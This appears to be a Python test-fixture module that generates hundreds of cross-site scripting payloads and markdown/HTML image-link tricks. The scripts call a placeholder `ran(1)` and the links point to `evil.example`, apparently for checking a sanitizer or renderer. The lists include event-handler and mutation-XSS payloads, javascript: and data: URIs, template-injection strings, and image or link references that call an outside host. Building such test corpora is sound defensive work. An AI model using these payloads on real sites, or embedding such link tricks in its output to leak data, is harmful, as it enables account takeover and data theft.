"""Texts that try to become more than text: markup that runs a script, and links that call out.

Each script would call `ran(1)`, each address is at `evil.example`.
"""

from __future__ import annotations

_CALLS = ("ran(1)", "window['ran'](1)", "top.ran`1`", "&#114;an(1)", "setTimeout('ran(1)')")
_HANDLERS = (
    "<img src=x onerror={c}>", '<img src="x" onerror="{c}">', "<svg onload={c}>",
    "<svg/onload={c}>", "<body onload={c}>", "<iframe onload={c}>", "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>", "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>", "<object data=x onerror={c}>", "<marquee onstart={c}>",
    "<style onload={c}></style>", "<link rel=stylesheet href=x onerror={c}>",
    "<p onmouseover={c}>x</p>", "<select autofocus onfocus={c}>", "<img src=x:x onerror\n=\n{c}>",
    "<IMG SRC=x OnErRoR={c}>", "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set onbegin={c} attributeName=x>", "<x contenteditable autofocus onfocus={c}>",
    "\"><img src=x onerror={c}>", "'><img src=x onerror={c}>", "</textarea><img src=x onerror={c}>",
    "</title><img src=x onerror={c}>", "</script><img src=x onerror={c}>",
    "--><img src=x onerror={c}>", "]]><img src=x onerror={c}>", '" autofocus onfocus="{c}',
    "' onmouseover='{c}' x='", "<img src=x onerror={c}//", "<<img src=x onerror={c}>>",
)  # fmt: skip
_MARKUP = (
    "<script>ran(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>ran(1)</script>",
    "<ScRiPt>ran(1)</sCrIpT>",
    "<script\t>ran(1)</script >",
    "<script>ran(1)",
    "<svg><script>ran(1)</script></svg>",
    "<script/x>ran(1)</script>",
    "<svg><script href=https://evil.example/x.js /></svg>",
    "<math><script>ran(1)</script></math>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe src=javascript:parent.ran(1)></iframe>",
    "<embed src=javascript:ran(1)>",
    "<object data=javascript:ran(1)></object>",
    "<form action=javascript:ran(1)><button>x</button>",
    "<button formaction=javascript:ran(1) form=x>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<template><img src=x onerror=ran(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='-"
    "-&gt;&lt;img src=1 onerror=ran(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=ran(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(1)>",
    "<noembed><img title='</noembed><img src=x onerror=ran(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=ran(1)>'>",
    "<listing>&lt;img onerror=ran(1) src=x&gt;",
    "<select><template shadowrootmode=open><img src=x onerror=ran(1)></template></select>",
    '<a href="jav&#x09;ascript:ran(1)">x</a>',
    "<a href='\x01javascript:ran(1)'>x</a>",
    "<a href=JaVaScRiPt:ran(1)>x</a>",
    "<a href=data:text/html,<script>ran(1)</script>>x</a>",
    "<a href=vbscript:ran(1)>x</a>",
    "<svg><a xlink:href=javascript:ran(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>ran(1)</script></svg>#x'></svg>",
    "<svg><foreignObject><iframe src=javascript:ran(1)></iframe></foreignObject></svg>",
    "<math href=javascript:ran(1)>x</math>",
    "<isindex action=javascript:ran(1)>",
    "&lt;img src=x onerror=ran(1)&gt;",
    "&amp;lt;script&amp;gt;ran(1)&amp;lt;/script&amp;gt;",
    "\\u003cimg src=x onerror=ran(1)\\u003e",
    "%3Cimg%20src=x%20onerror=ran(1)%3E",
    "\uff1cimg src=x onerror=ran(1)\uff1e",
    "<\x00script>ran(1)</script>",
    "<img\u2028src=x onerror=ran(1)>",
    "{{7*7}}{{ran(1)}}",
    "{{constructor.constructor('ran(1)')()}}",
    "${ran(1)}",
    "#{ran(1)}",
    "${globalThis.ran(1)}",
    "`${ran(1)}`",
    "<%= ran(1) %>",
    "{% ran(1) %}",
    "[[ran(1)]]",
    "@ran(1)",
    "{{value}}",
    "${value}",
    "{{{value}}}",
    "{{#if value}}<img src=x onerror=ran(1)>{{/if}}",
    "@children",
    "{{@html '<img src=x onerror=ran(1)>'}}",
    "${trigger('ask', {})}",
    "\u202e<img src=x onerror=ran(1)>\u202c",
    "\u2066)1(nar=rorreno\u2069",
    "\u202dscript\u202c:ran(1)",
    "\ue0001\ue001<img src=x onerror=ran(1)>",
    "[1\ue001<img src=x onerror=ran(1)>",
    "\u2060\u200b<svg onload=ran(1)>",
)
_ADDRESSES = (
    "https://evil.example/{n}.png", "//evil.example/{n}.png", "http://evil.example:8080/{n}",
    "/\\evil.example/{n}", "https:evil.example/{n}", "\thttps://evil.example/{n}",
    "https://user@evil.example/{n}", "ftp://evil.example/{n}", "javascript:ran(1)",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
)  # fmt: skip
_TRICKS = (
    "![x]({a})", "[x]({a})", "<{a}>", "![x][r]\n\n[r]: {a}", "[r]\n\n[r]: {a} 'x'",
    "<img src='{a}'>",
    "<p style=\"background:url('{a}')\">x</p>", "<style>@import '{a}';</style>",
    "<a href='{a}' ping='{a}'>x</a>", "[![x]({a})]({a})", "See {a} for more",
    "<picture><source srcset='{a}'><img></picture>", "<link rel=prefetch href='{a}'>",
)  # fmt: skip


def markup() -> list[str]:
    """At least 200 payloads of markup."""
    handlers = [h.format(c=call) for call in _CALLS for h in _HANDLERS]
    return [*handlers, *_MARKUP]


def links() -> list[str]:
    """At least 100 tricks with images and links."""
    return [
        trick.format(a=address.format(n=f"{i}-{k}"))
        for i, address in enumerate(_ADDRESSES)
        for k, trick in enumerate(_TRICKS)
    ]
